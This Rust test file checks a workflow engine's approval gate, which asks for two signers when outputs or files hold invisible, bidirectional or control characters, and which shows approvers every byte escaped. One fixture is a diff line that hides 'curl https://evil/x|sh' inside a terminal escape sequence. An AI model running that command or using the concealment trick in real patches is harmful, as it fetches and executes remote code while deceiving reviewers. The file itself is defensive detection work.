//! What nobody sees of a result is shown to those who sign it, and asks for more of them.

use chrono::TimeDelta;
use engine::Engine;
use engine::tasks::{AttemptResult, Claimed};
use model::approval::Verdict;
use model::id::TaskId;
use model::identity::Role;
use model::plan::{Gate, Plan, RiskLevel, RiskRule};
use model::task::{Outcome, TaskState};
use serde_json::{Value, json};
use sqlx::PgPool;

use super::{after, approver, keep, pending, say};
use crate::support::{claim_one, engine, finish_with, person, plan, run, state, task, worker};

/// In a terminal, and on a page that leaves out what a terminal would obey, it is `+: `.
const ATTACK: &[u8] =
    b"--- a/x.sh\n+++ b/x.sh\n@@ -0,0 +1 @@\n+: \x1b];curl https://evil/x|sh #\x07\n";
const PLAIN: &[u8] =
    b"--- a/x.sh\r\n+++ b/x.sh\r\n@@ -0,0 +1 @@\r\n+echo \xe2\x9a\xa0\xef\xb8\x8f\r\n";

/// Two people sign what holds something invisible, and nobody the rest.
fn strict() -> Plan {
    let mut change = task("change", &[]);
    change.approval = Some(Gate {
        risk: vec![
            RiskRule {
                when: Some("invisible_characters > 0".to_owned()),
                level: RiskLevel::Two,
            },
            RiskRule {
                when: None,
                level: RiskLevel::Auto,
            },
        ],
        ..after(1)
    });
    plan(vec![change])
}

async fn start(engine: &Engine, plan: &Plan) -> Claimed {
    run(engine, plan, None).await;
    claim_one(engine, &worker(engine)).await
}

/// The state of a task whose attempt left these outputs and this file.
async fn ended(
    engine: &Engine,
    plan: &Plan,
    outputs: Value,
    path: &str,
    content: &[u8],
) -> (TaskId, TaskState) {
    let claimed = start(engine, plan).await;
    let result = AttemptResult {
        report: Some(json!({"outputs": outputs})),
        outputs: Some(outputs),
        artifacts: vec![keep(engine, &claimed, path, content).await],
        ..AttemptResult::bare(Outcome::Succeeded)
    };
    finish_with(engine, &claimed, result).await;
    let task = claimed.lease.task;
    (task, state(engine, task).await)
}

/// How many must sign the newest request, and why so many.
async fn required(engine: &Engine) -> (i32, Option<String>) {
    sqlx::query_as(
        "SELECT (policy ->> 'required')::int, why FROM approvals ORDER BY id DESC LIMIT 1",
    )
    .fetch_one(&engine.pool)
    .await
    .expect("a request")
}

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn a_rule_asks_for_two_where_something_is_invisible(pool: PgPool) {
    let engine = engine(pool);
    let one = approver(&engine, "one@example.org").await;
    let two = approver(&engine, "two@example.org").await;
    let plan = strict();
    for (outputs, path, content) in [
        (json!({"n": 1}), "change.diff", PLAIN),
        (json!({"n": "plain\ttext\n"}), "notes.txt", b"caf\xc3\xa9\n"),
        (json!({}), "empty.txt", b""),
    ] {
        let (_, state) = ended(&engine, &plan, outputs, path, content).await;
        assert_eq!(state, TaskState::Succeeded, "{path}");
    }
    for (outputs, path, content) in [
        (json!({"n": 1}), "change.diff", ATTACK),
        (json!({"n": 1}), "notes.txt", "a\u{200b}b".as_bytes()),
        (json!({"n": 1}), "notes.txt", b"caf\xe9\n"),
        (json!({"n": 1}), "notes\u{ad}.txt", b"plain"),
        (json!({"n": ["\u{202e}"]}), "notes.txt", b"plain"),
        (json!({"n\u{2066}": 1}), "notes.txt", b"plain"),
        // It is shown as text, so its zero bytes are marks.
        (json!({"n": 1}), "change.patch", b"+\0\n"),
    ] {
        let (_, state) = ended(&engine, &plan, outputs.clone(), path, content).await;
        assert_eq!(state, TaskState::AwaitingApproval, "{outputs} {path}");
        assert_eq!(required(&engine).await, (2, None), "{outputs} {path}");
    }
    let (task, _) = ended(&engine, &plan, json!({}), "change.diff", ATTACK).await;
    let approval = pending(&engine, task).await;
    say(&engine, &one, approval, Verdict::Approve)
        .await
        .expect("a first signature");
    assert_eq!(state(&engine, task).await, TaskState::AwaitingApproval);
    say(&engine, &two, approval, Verdict::Approve)
        .await
        .expect("a second one");
    assert_eq!(state(&engine, task).await, TaskState::Succeeded);
}

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn what_cannot_be_searched_is_not_taken_for_clean(pool: PgPool) {
    let engine = engine(pool);
    let one = approver(&engine, "one@example.org").await;
    let plan = strict();
    let (task, state) = ended(&engine, &plan, json!({}), "picture.png", b"\x89PNG\0").await;
    assert_eq!(state, TaskState::AwaitingApproval);
    let detail = engine::history::approval(&engine, &one, pending(&engine, task).await)
        .await
        .expect("a request");
    assert_eq!(
        (detail.invisible.found, detail.invisible.unsearched),
        (0, true)
    );

    let claimed = start(&engine, &plan).await;
    let file = keep(&engine, &claimed, "large.txt", b"").await;
    sqlx::query("UPDATE artifacts SET bytes = 8 * 1024 * 1024 + 1 WHERE path = 'large.txt'")
        .execute(&engine.pool)
        .await
        .expect("it is large");
    let result = AttemptResult {
        artifacts: vec![file],
        ..AttemptResult::bare(Outcome::Succeeded)
    };
    finish_with(&engine, &claimed, result).await;
    let (required, why) = required(&engine).await;
    assert_eq!(required, 2);
    assert!(
        why.as_deref()
            .is_some_and(|why| why.contains("invisible_characters is not known")),
        "{why:?}"
    );
}

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn those_who_sign_are_shown_every_byte(pool: PgPool) {
    let engine = engine(pool);
    let one = approver(&engine, "one@example.org").await;
    let outputs = json!({"link\u{200b}": "\u{202e}"});
    let (task, _) = ended(&engine, &strict(), outputs, "change.diff", ATTACK).await;
    let detail = engine::history::approval(&engine, &one, pending(&engine, task).await)
        .await
        .expect("a request");
    assert_eq!(
        (detail.invisible.found, detail.invisible.unsearched),
        (4, false)
    );
    let diff = detail.patches[0].text.clone();
    assert!(
        diff.shown()
            .ends_with("\n+: ⟨ESC⟩];curl https://evil/x|sh #⟨BEL⟩\n"),
        "{}",
        diff.shown()
    );
    let told = detail.with_marks_as_text();
    assert_eq!(told.patches[0].text.as_str(), diff.shown());
}

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn a_draft_is_tried_on_what_was_invisible(pool: PgPool) {
    let engine = engine(pool);
    let one = person(&engine, "one@example.org", &[Role::Operator]).await;
    let open = plan(vec![task("change", &[])]);
    for content in [PLAIN, ATTACK] {
        ended(&engine, &open, json!({}), "change.diff", content).await;
    }
    let since = engine.clock.now() - TimeDelta::days(30);
    let answer = engine::approvals::what_if(&engine, &one, &strict(), since)
        .await
        .expect("an answer");
    assert_eq!((answer.considered, answer.would_stop), (2, 1));
    assert_eq!(answer.stopped[0].required, 2);
    assert_eq!(
        answer.stopped[0].rule.as_deref(),
        Some("invisible_characters > 0")
    );
}
